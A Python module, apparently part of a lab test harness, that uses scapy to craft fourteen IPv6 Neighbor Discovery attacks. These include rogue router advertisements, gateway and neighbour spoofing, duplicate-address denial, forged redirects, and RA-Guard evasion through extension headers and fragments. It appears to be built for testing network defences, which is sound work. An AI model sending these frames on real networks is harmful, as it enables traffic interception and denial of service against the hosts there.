"""Neighbor Discovery: the attacker as router, as gateway, as service, as its neighbours (RFC 3756)."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from functools import partial
from ipaddress import IPv6Address
from typing import Any

from scapy.layers.inet6 import (
    ICMPv6MRD_Advertisement,
    ICMPv6ND_INDSol,
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6ND_Redirect,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptMTU,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptRDNSS,
    ICMPv6NDOptSrcLLAddr,
    ICMPv6NIQueryName,
    ICMPv6RPL,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    PadN,
)

from controller.wire.frames import ICMPV6, multicast_mac
from controller.wire.nd import ALL_NODES, solicited_node
from experiments.attack.frames import frame, ipv6, marked_option
from experiments.attack.model import Attack, Attacker, Family, Mark
from topologies.addressing import GATEWAY

_LEAST_MTU = 1280
_FRAGMENT_BYTES = 48


def _advert(a: Attacker, mark: bytes, lifetime_s: int = 9000) -> Any:
    """A router advertisement with the attacker as router and name server, and a prefix of its own."""
    return (
        ICMPv6ND_RA(routerlifetime=lifetime_s, prf=1)
        / marked_option(mark)
        / ICMPv6NDOptSrcLLAddr(lladdr=a.me.mac)
        / ICMPv6NDOptMTU(mtu=_LEAST_MTU)
        / ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)
        / ICMPv6NDOptRDNSS(dns=[str(a.me.address)])
    )


def _receivers(a: Attacker) -> Iterable[tuple[IPv6Address, str]]:
    """All nodes, and each neighbour by its own addresses."""
    yield ALL_NODES, multicast_mac(ALL_NODES)
    for user in a.users[:4]:
        yield user.link_local, user.mac
        yield user.link_local, a.gateway_mac
        yield user.address, a.gateway_mac
        yield ALL_NODES, user.mac


def _router(a: Attacker, mark: Mark) -> Iterator[bytes]:
    for target, mac in _receivers(a):
        header = ipv6(a, target, src=a.me.link_local, hop_limit=255)
        yield frame(a, header / _advert(a, mark()), to=mac)


def _no_router(a: Attacker, mark: Mark) -> Iterator[bytes]:
    """The end of the real gateway, in its own name."""
    for target, mac in _receivers(a):
        for by in (a.me.mac, a.gateway_mac):
            header = ipv6(a, target, src=GATEWAY, hop_limit=255)
            yield frame(a, header / _advert(a, mark(), lifetime_s=0), to=mac, by=by)


def _hidden(a: Attacker, mark: Mark) -> Iterator[bytes]:
    """Advertisements behind extension headers (RFC 7113)."""
    pad = PadN(optdata=b"\0" * 4)
    chains = (
        IPv6ExtHdrHopByHop(options=[pad]),
        IPv6ExtHdrDestOpt(options=[pad]),
        IPv6ExtHdrHopByHop(options=[pad]) / IPv6ExtHdrDestOpt(options=[pad]),
        IPv6ExtHdrDestOpt(options=[pad])
        / IPv6ExtHdrDestOpt(options=[pad])
        / IPv6ExtHdrDestOpt(options=[pad]),
    )
    for chain in chains:
        header = ipv6(a, ALL_NODES, src=a.me.link_local, hop_limit=255)
        yield frame(a, header / chain / _advert(a, mark()))


def _in_fragments(a: Attacker, mark: Mark, *, is_atomic: bool) -> Iterator[bytes]:
    """Advertisements and solicitations in fragments (RFC 6980), some with the type in the second one."""
    sent: list[tuple[IPv6Address, str, Any]] = [
        (target, mac, _advert(a, mark())) for target, mac in _receivers(a)
    ]
    probe = ICMPv6ND_NS(tgt=str(a.victim.address)) / marked_option(mark())
    sent.append((solicited_node(a.victim.address), multicast_mac(solicited_node(a.victim.address)), probe))
    for number, (target, mac, message) in enumerate(sent):
        header = ipv6(a, target, src=a.me.link_local, hop_limit=255)
        whole = bytes((header / message).payload)
        if is_atomic:
            yield frame(a, header / IPv6ExtHdrFragment(nh=ICMPV6, id=number) / whole, to=mac)
            continue
        for offset in range(0, len(whole), _FRAGMENT_BYTES):
            piece = whole[offset : offset + _FRAGMENT_BYTES]
            is_last = offset + _FRAGMENT_BYTES >= len(whole)
            fragment = IPv6ExtHdrFragment(nh=ICMPV6, id=number, offset=offset // 8, m=int(not is_last))
            yield frame(a, header / fragment / piece, to=mac)


def _advertise(a: Attacker, mark: Mark, targets: Iterable[IPv6Address]) -> Iterator[bytes]:
    """`I have this address`, to everybody, unasked and to override."""
    for target in targets:
        for source in (a.me.link_local, target):
            for by in (a.me.mac, a.gateway_mac):
                for router in (0, 1):
                    message = ICMPv6ND_NA(R=router, S=0, O=1, tgt=str(target)) / marked_option(mark())
                    message = message / ICMPv6NDOptDstLLAddr(lladdr=a.me.mac)
                    header = ipv6(a, ALL_NODES, src=source, hop_limit=255)
                    yield frame(a, header / message, by=by)


def _as_gateway(a: Attacker, mark: Mark) -> Iterator[bytes]:
    yield from _advertise(a, mark, [GATEWAY])


def _as_service(a: Attacker, mark: Mark) -> Iterator[bytes]:
    yield from _advertise(a, mark, [a.service])


def _as_neighbours(a: Attacker, mark: Mark) -> Iterator[bytes]:
    yield from _advertise(a, mark, [user.address for user in a.users[:4]])


def _as_infrastructure(a: Attacker, mark: Mark) -> Iterator[bytes]:
    yield from _advertise(a, mark, [a.origin.address, a.edges[0].address, a.dns.address])


def _duplicates(a: Attacker, mark: Mark) -> Iterator[bytes]:
    """Probes for addresses of others, so that they would give them up or fail to get them."""
    for user in a.users[:8]:
        for target in (user.address, user.link_local):
            header = ipv6(a, solicited_node(target), src="::", hop_limit=255)
            yield frame(a, header / ICMPv6ND_NS(tgt=str(target)) / marked_option(mark()))
            defence = ICMPv6ND_NA(R=0, S=0, O=1, tgt=str(target)) / marked_option(mark())
            yield frame(a, ipv6(a, ALL_NODES, src=target, hop_limit=255) / defence)


def _solicited(a: Attacker, mark: Mark) -> Iterator[bytes]:
    """Solicitations straight to others, and for others in somebody else's name."""
    for user in a.users[:8]:
        for source in (a.me.link_local, a.service, GATEWAY):
            for target, mac in ((solicited_node(user.address), None), (user.address, user.mac)):
                message = ICMPv6ND_NS(tgt=str(user.address)) / marked_option(mark())
                message = message / ICMPv6NDOptSrcLLAddr(lladdr=a.me.mac)
                yield frame(a, ipv6(a, target, src=source, hop_limit=255) / message, to=mac)


def _redirects(a: Attacker, mark: Mark) -> Iterator[bytes]:
    for target, mac in _receivers(a):
        for destination in (a.service, a.dns.address):
            message = ICMPv6ND_Redirect(tgt=str(a.me.link_local), dst=str(destination))
            message = message / marked_option(mark()) / ICMPv6NDOptDstLLAddr(lladdr=a.me.mac)
            for by in (a.me.mac, a.gateway_mac):
                yield frame(a, ipv6(a, target, src=GATEWAY, hop_limit=255) / message, to=mac, by=by)


def _through_the_router(a: Attacker, mark: Mark) -> Iterator[bytes]:
    """Neighbor Discovery addressed to hosts far away, with hop limits that a careless router would pass."""
    for target in (a.service, a.origin.address, a.users[-1].address):
        for hop_limit in (255, 64):
            for message in (
                _advert(a, mark()),
                ICMPv6ND_NS(tgt=str(target)) / marked_option(mark()),
                ICMPv6ND_NA(R=1, O=1, tgt=str(GATEWAY)) / marked_option(mark()),
                ICMPv6ND_Redirect(tgt=str(GATEWAY), dst=str(a.service)) / marked_option(mark()),
            ):
                yield frame(a, ipv6(a, target, hop_limit=hop_limit) / message)


def _curious(a: Attacker, mark: Mark) -> Iterator[bytes]:
    """Node information, inverse discovery, router discovery for multicast, RPL."""
    for target, mac in _receivers(a):
        header = ipv6(a, target, src=a.me.link_local, hop_limit=255)
        for message in (
            ICMPv6NIQueryName(data=str(a.victim.address)),
            ICMPv6ND_INDSol(),
            ICMPv6MRD_Advertisement(),
            ICMPv6RPL(code=1),
        ):
            yield frame(a, header / message / mark(), to=mac)


_ND = partial(Attack, family=Family.DISCOVERY, claim="C9")
ATTACKS = (
    _ND(
        name="rogue-ra",
        reference="RFC 6104, 6105",
        tries="router advertisements with the attacker as router, prefix and name server",
        frames=_router,
    ),
    _ND(
        name="ra-end",
        reference="RFC 3756 4.2.4",
        tries="the gateway's own advertisement with lifetime 0, from its address and MAC",
        frames=_no_router,
    ),
    _ND(
        name="ra-hidden",
        reference="RFC 7113",
        tries="router advertisements behind hop-by-hop and destination options",
        frames=_hidden,
    ),
    _ND(
        name="nd-fragments",
        reference="RFC 6980",
        tries="router advertisements and solicitations in fragments",
        frames=partial(_in_fragments, is_atomic=False),
    ),
    _ND(
        name="nd-atomic-fragments",
        reference="RFC 6980, 6946",
        tries="router advertisements and solicitations in atomic fragments",
        frames=partial(_in_fragments, is_atomic=True),
    ),
    _ND(
        name="na-gateway",
        reference="RFC 3756 4.1.1",
        tries="neighbour advertisements for fe80::1",
        frames=_as_gateway,
    ),
    _ND(
        name="na-service",
        reference="RFC 3756 4.1.1",
        tries="neighbour advertisements for the service address",
        frames=_as_service,
    ),
    _ND(
        name="na-users",
        reference="RFC 3756 4.1.1, 6620",
        tries="neighbour advertisements for the addresses of others",
        frames=_as_neighbours,
    ),
    _ND(
        name="na-infrastructure",
        reference="RFC 3756 4.1.1",
        tries="neighbour advertisements for origin, edge and name server",
        frames=_as_infrastructure,
    ),
    _ND(
        name="dad-denial",
        reference="RFC 3756 4.1.3",
        tries="duplicate address detection of others answered, and their addresses probed for",
        frames=_duplicates,
    ),
    _ND(
        name="ns-others",
        reference="RFC 3756 4.1.2",
        tries="solicitations straight to others, in the name of gateway and service",
        frames=_solicited,
    ),
    _ND(
        name="redirect",
        reference="RFC 3756 4.2.6",
        tries="redirects for service and name server to the attacker",
        frames=_redirects,
    ),
    _ND(
        name="nd-routed",
        reference="RFC 4890 4.3.3",
        tries="Neighbor Discovery addressed to hosts behind routers",
        frames=_through_the_router,
    ),
    _ND(
        name="curious",
        reference="RFC 4620, 3122, 4286",
        tries="node information queries, inverse discovery, multicast router discovery, RPL",
        frames=_curious,
    ),
)
